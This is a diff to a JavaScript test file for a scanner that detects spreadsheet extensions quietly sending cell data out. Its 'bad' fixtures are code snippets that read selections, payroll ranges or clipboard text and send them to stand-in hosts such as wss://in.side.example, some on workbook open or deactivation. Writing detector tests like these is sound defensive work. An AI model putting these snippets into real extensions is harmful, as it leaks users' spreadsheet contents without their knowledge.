@@ -18,12 +18,22 @@ test('bad: what stands in cells goes to a server, and nobody reads the answer', 
     script(`f.functions.register('CLEAN', { async handler(rows) { ${send('rows')}; return rows.map(String); } });`),
     script(`f.events.onWorkbookOpened(async () => { const t = await f.clipboard.readText(); await ${send('t')}; });`),
     script("const sheet = await f.sheets.getSheet('Payroll'); const ws = await f.network.openWebSocket('wss://in.side.example'); ws.send(JSON.stringify(await sheet.getRange('A1:F9')));"),
+    script("const ws = await f.network.openWebSocket('wss://in.side.example'); ws.onmessage = () => {}; const { values } = await f.cells.getRange('A1:F9'); ws.send(JSON.stringify(values));"),
+    script("const ws = await f.network.openWebSocket('wss://in.side.example'); ws.onmessage = null; ws.on('message', () => {}); const { values } = await f.cells.getRange('A1:F9'); ws.send(JSON.stringify(values));"),
     { 'index.js': `const f = require('@formula/extension-api'); exports.activate = () => {}; exports.deactivate = async () => { const { values } = await f.cells.getRange('A1:B9'); await ${send('values')}; };` },
   ]) assert.match(told(files), UNASKED, files['index.js']);
   const BESIDE = /high \S+: what stands in cells.* beside what somebody asked for/;
   for (const files of [
     command(`${TRIM} await ${send('s.values')}.catch(() => {});`),
     command(`${TRIM} void ${send('s.values')};`),
+    command(`const s = await f.cells.getSelection(); try { await ${send('s.values')}; } catch {} await f.ui.showMessage('Done');`),
+    command(`${TRIM} ${send('s.values')}.then(() => {});`),
+    command(`${TRIM} ${send('s.values')}.then(() => {}, () => null);`),
+    command(`${TRIM} const res = ${send('s.values')};`),
+    command(`${TRIM} try { const res = await ${send('s.values')}; } catch {}`),
+    command(`${TRIM} await post(s.values);`, `async function post(rows) { if (rows.length > 99) return post(rows.slice(99)); return ${send('rows')}.catch(() => {}); }`),
+    command(`${TRIM} await ${send('s.values')}; console.info('done');`),
+    command(`${TRIM} h(s.values);`, `const post = (rows) => ${send('rows')}.catch(() => {}); const g = (rows) => [${'post(rows), '.repeat(800)}]; const h = (rows) => [${'g(rows), '.repeat(800)}];`),
     command(`${TRIM} try { await ${send('s.values')}; } catch {}`),
     command(`${TRIM} s.values.length && await ${send('s.values')}.catch(() => null), 0;`),
     command(`${TRIM} s.values.forEach((row) => ${send('row')});`),
@@ -42,6 +52,10 @@ test('good: who sends for somebody reads the answer or says that it was sent, to
     command(`const s = await f.cells.getSelection(); await ${send('s.values')}; await f.ui.showMessage('Published.');`),
     command(`const s = await f.cells.getSelection(); ${send('s.values')}.then((r) => r.json()).then((out) => f.cells.setCell(0, 0, out.text)).catch(() => {});`),
     command(`const s = await f.cells.getSelection(); for (const row of s.values) await post(row);`, `const post = async (row) => { const res = await ${send('row')}; if (!res.ok) throw new Error('no'); return res.json(); };`),
+    command(`${TRIM} await ${send('s.values')}; await f.ui.showMessage('Published.');`),
+    script("const ws = await f.network.openWebSocket('wss://live.side.example'); ws.onmessage = (m) => f.cells.setCell(0, 0, m.data); const { values } = await f.cells.getRange('A2:A50'); ws.send(JSON.stringify(values));"),
+    command(`const s = await f.cells.getSelection(); await ${send('s.values')}.then(() => f.ui.showMessage('Published.'));`),
+    command(`const s = await f.cells.getSelection(); ${send('s.values')}.then((res) => shown.push(res.status), () => {});`, 'const shown = [];'),
     command(`const s = await f.cells.getSelection(); const all = await Promise.all(s.values.map((row) => ${send('row')})); await f.ui.showMessage(String(all.length));`),
     command(`${TRIM} ${send('{ command: "trim", rows: s.values.length }')}.catch(() => {});`),
     command(`${send('{ cards: (await cards()).length }')}.catch(() => {});`, "const cards = async () => (await f.cells.getUsedRange()).values.map((v, row) => ({ row, task: v[0] })).filter((c) => c.task);"),
@@ -71,7 +85,7 @@ test('markup loads what nobody sees, with what stands in cells in its address', 
   ]) assert.match(told({ 'index.js': FORMULA + body }), /high \S+: what stands in cells/, body);
   for (const body of [
     "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'Code' }); await p.webview.setHtml(`<style>body{background:url(bg.png)}</style><img width=\"240\" height=\"240\" src=\"https://api.qrserver.example/v1/?data=${encodeURIComponent(String(s.values[0][0]))}\">`);})); };",
-    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'Chart' }); await p.webview.setHtml('<img alt=\"chart\" src=\"https://charts.example.org/chart?c=' + encodeURIComponent(JSON.stringify(s.values)) + '\">');})); };",
+    "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const s = await cells.getSelection(); const p = await ui.createPanel('p', { title: 'Chart' }); const dot = '<img width=1 src=' + context.logo; await p.webview.setHtml('<img alt=\"chart\" src=\"https://charts.example.org/chart?c=' + encodeURIComponent(JSON.stringify(s.values)) + '\">');})); };",
     "\nexports.activate = async (context) => { context.subscriptions.push(await commands.registerCommand('t.run', async () => {const u = await cells.getUsedRange(); const p = await ui.createPanel('p', { title: 'T' }); await p.webview.setHtml(`<link rel=\"stylesheet\" href=\"theme.css\"><img width=0 height=0 src=\"logo.png\"><p>${u.values.length}</p><img src=\"https://flags.side.example/${u.values[0][0]}.png\">`);})); };",
   ]) assert.equal(told({ 'index.js': FORMULA + body }), '', body);
 });
